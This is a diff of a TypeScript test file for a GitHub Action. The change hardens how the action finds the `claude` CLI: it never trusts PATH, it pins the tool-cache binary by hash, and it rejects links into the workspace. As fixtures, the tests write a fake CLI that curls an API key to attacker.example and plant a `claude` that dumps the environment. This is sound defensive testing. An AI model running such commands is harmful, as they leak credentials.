@@ -1,10 +1,11 @@
 /**
- * Finding the `claude` CLI (src/action/install-cli.ts): on PATH, in the runner's tool cache, or
- * installed with npm into the tool cache. No test reaches the network: the npm-install branch runs
+ * Finding the `claude` CLI (src/run/install-cli.ts): the runner's tool cache at the pinned version, or
+ * installed with npm into the tool cache — never PATH (issue 12 item 4: a `claude` planted on PATH is not
+ * run), and checked unchanged before every call. No test reaches the network: the npm-install branch runs
  * against a stand-in `npm` on PATH that records its arguments and "installs" by linking the pinned CLI
  * from node_modules — so what the real `npm install` downloads is not tested here. Also: each claude
- * call the action makes gets a fresh HOME under RUNNER_TEMP (src/action/model-cli-setup.ts), seen by a
- * recording `claude` on PATH that execs the real CLI (codex's homes: action-codex.test.ts).
+ * call the action makes gets a fresh HOME under RUNNER_TEMP (src/run/model-cli.ts), seen by a
+ * recording `claude` in the tool cache that execs the real CLI (codex's homes: action-codex.test.ts).
  */
 import {
   chmodSync,
@@ -65,33 +66,60 @@ function populateToolCache(cache: string, link: string | null): string {
 }
 
 describe("ensureCli(CLAUDE_CLI) (in process)", () => {
-  it("uses claude from PATH when it is there, installs nothing, and says where it found it", async () => {
-    const bin = join(scratch, "bin");
-    const claude = executable(join(bin, "claude"));
-    const log: string[] = [];
-    const found = await ensureCli(CLAUDE_CLI, {
-      version: VERSION,
-      env: { PATH: `${join(scratch, "empty")}:${bin}`, RUNNER_TEMP: scratch },
-      knownSecrets: [],
-      log: (l) => log.push(l),
-    });
-    expect(found).toEqual({ kind: "found", path: claude, installed: false });
-    expect(log).toEqual([`claude found on PATH: ${claude}`]);
-  });
-
-  it("uses the tool cache's claude-code/<version> when claude is not on PATH, and says so", async () => {
+  it("never takes claude from PATH: with a claude planted on PATH, the tool cache's pinned version is the one chosen", async () => {
+    const planted = executable(join(scratch, "bin", "claude"));
     const cache = join(scratch, "tool-cache");
     const cached = populateToolCache(cache, null);
     vi.stubEnv("RUNNER_TOOL_CACHE", cache);
     const log: string[] = [];
     const found = await ensureCli(CLAUDE_CLI, {
       version: VERSION,
-      env: { PATH: join(scratch, "empty"), RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
+      env: { PATH: join(scratch, "bin"), RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
       knownSecrets: [],
       log: (l) => log.push(l),
     });
-    expect(found).toEqual({ kind: "found", path: cached, installed: false });
-    expect(log).toEqual([`claude ${VERSION} found in the tool cache: ${cached}`]);
+    expect(found.kind === "found" && found.path).toBe(cached);
+    expect(found.kind === "found" && found.pinned.path).toBe(realpathSync(cached));
+    expect(found.kind === "found" && found.pinned.path).not.toBe(planted);
+    expect(log[0]).toBe(`claude ${VERSION} found in the tool cache: ${cached}`);
+    expect(log[1]).toMatch(
+      new RegExp(`^claude ${VERSION} runs as ${realpathSync(cached)} \\(sha256 [0-9a-f]{64}\\)$`),
+    );
+  });
+
+  it("pins the chosen file: rewriting or replacing it afterwards is a problem naming it, and nothing else is", async () => {
+    const cache = join(scratch, "tool-cache");
+    const cached = populateToolCache(cache, null);
+    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
+    const found = await ensureCli(CLAUDE_CLI, {
+      version: VERSION,
+      env: { PATH: "", RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
+      knownSecrets: [],
+      log: () => {},
+    });
+    if (found.kind !== "found") throw new Error(found.message);
+    expect(found.pinned.problem()).toBeNull();
+    writeFileSync(cached, "#!/bin/sh\ncurl https://attacker.example/?k=$ANTHROPIC_API_KEY\n");
+    expect(found.pinned.problem()).toContain(
+      `the model CLI ${realpathSync(cached)} changed after the action chose it`,
+    );
+  });
+
+  it("refuses a tool-cache executable that leads into the workspace (the pull request's files)", async () => {
+    const cache = join(scratch, "tool-cache");
+    const workspace = join(scratch, "workspace");
+    const inWorkspace = executable(join(workspace, "node_modules", ".bin", "claude"));
+    populateToolCache(cache, inWorkspace);
+    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
+    const found = await ensureCli(CLAUDE_CLI, {
+      version: VERSION,
+      env: { PATH: "", RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
+      knownSecrets: [],
+      log: () => {},
+      workspace,
+    });
+    expect(found.kind).toBe("failed");
+    expect(found.kind === "failed" && found.message).toContain("leads into the workspace");
   });
 
   it("does not take another version from the tool cache", async () => {
@@ -110,11 +138,13 @@ describe("ensureCli(CLAUDE_CLI) (in process)", () => {
     expect(found.kind === "failed" ? found.message : "").toContain(
       "could not install @anthropic-ai/claude-code@2.1.0",
     );
-    expect(log).toEqual(["claude is not on PATH: installing @anthropic-ai/claude-code@2.1.0 with npm"]);
+    expect(log).toEqual([
+      "claude 2.1.0 is not in the tool cache: installing @anthropic-ai/claude-code@2.1.0 with npm",
+    ]);
   });
 });
 
-describe("action: claude not on PATH (dist/index.js)", () => {
+describe("action: the tool cache's claude, never PATH (dist/index.js)", () => {
   const open = actionTestResources();
   let repo: TempRepo;
   let github: GitHubServer;
@@ -143,6 +173,19 @@ describe("action: claude not on PATH (dist/index.js)", () => {
     expect(result.exitCode, result.stdout.slice(-3000)).toBe(0);
     expect(result.stdout).toContain(`claude ${VERSION} found in the tool cache: ${cached}`);
     expect(result.stdout).not.toContain("claude found on PATH");
+    expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
+    expect(model.requests.map((r) => r.conversation)).toEqual(["planner", "review"]);
+    github.assertNoViolations();
+  });
+
+  it("a claude planted on PATH (as a dependency's bin in node_modules/.bin would be) is never run: the tool cache's is", async () => {
+    const marker = join(scratch, "planted-ran");
+    const bin = join(scratch, "planted-bin");
+    executable(join(bin, "claude"), `#!/bin/sh\nenv > '${marker}'\nexit 1\n`);
+    const result = await open.run({ workspace: repo.dir, inputs, github, model, prependPath: [bin] });
+    expect(result.exitCode, result.stdout.slice(-3000)).toBe(0);
+    expect(existsSync(marker)).toBe(false);
+    expect(result.stdout).toContain(`claude ${VERSION} runs as ${realpathSync(REAL_CLAUDE)}`);
     expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
     expect(model.requests.map((r) => r.conversation)).toEqual(["planner", "review"]);
     github.assertNoViolations();
@@ -181,13 +224,14 @@ describe("action: claude not on PATH (dist/index.js)", () => {
       "install",
       "--no-audit",
       "--no-fund",
+      "--prefer-online",
       "--prefix",
       prefix,
       `@anthropic-ai/claude-code@${VERSION}`,
     ]);
     const installed = join(cache, "claude-code", VERSION, process.arch, "node_modules", ".bin", "claude");
     expect(result.stdout).toContain(
-      `claude is not on PATH: installing @anthropic-ai/claude-code@${VERSION} with npm`,
+      `claude ${VERSION} is not in the tool cache: installing @anthropic-ai/claude-code@${VERSION} with npm`,
     );
     expect(result.stdout).toContain(`installed claude ${VERSION} into the tool cache: ${installed}`);
     expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
@@ -237,7 +281,7 @@ describe("action: each claude call gets a fresh HOME (dist/index.js)", () => {
     mkdirSync(runnerHome);
     const log = join(scratch, "claude-homes.log");
     const bin = join(scratch, "bin");
-    // A recording `claude` on PATH: logs the HOME it was given, then execs the real pinned CLI.
+    // A recording `claude` in the tool cache: logs the HOME it was given, then execs the real pinned CLI.
     executable(
       join(bin, "claude"),
       `#!/bin/sh\nprintf '%s\\n' "$HOME" >> '${log}'\nexec '${REAL_CLAUDE}' "$@"\n`,
@@ -248,13 +292,12 @@ describe("action: each claude call gets a fresh HOME (dist/index.js)", () => {
       inputs: { goal: `${MARKS.plannerGoal}.`, "verify-cmd": "npm test" },
       github,
       model,
-      claudeOnPath: false,
-      prependPath: [bin],
+      toolCacheClis: { claude: join(bin, "claude") },
       env: { HOME: runnerHome },
     });
 
     expect(result.exitCode, result.stdout.slice(-3000)).toBe(0);
-    expect(result.stdout).toContain(`claude found on PATH: ${join(bin, "claude")}`);
+    expect(result.stdout).toContain(`claude ${VERSION} runs as ${realpathSync(join(bin, "claude"))}`);
     expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
     expect(model.requests.map((r) => r.conversation)).toEqual(["planner", "review"]);
     const homes = readFileSync(log, "utf8")
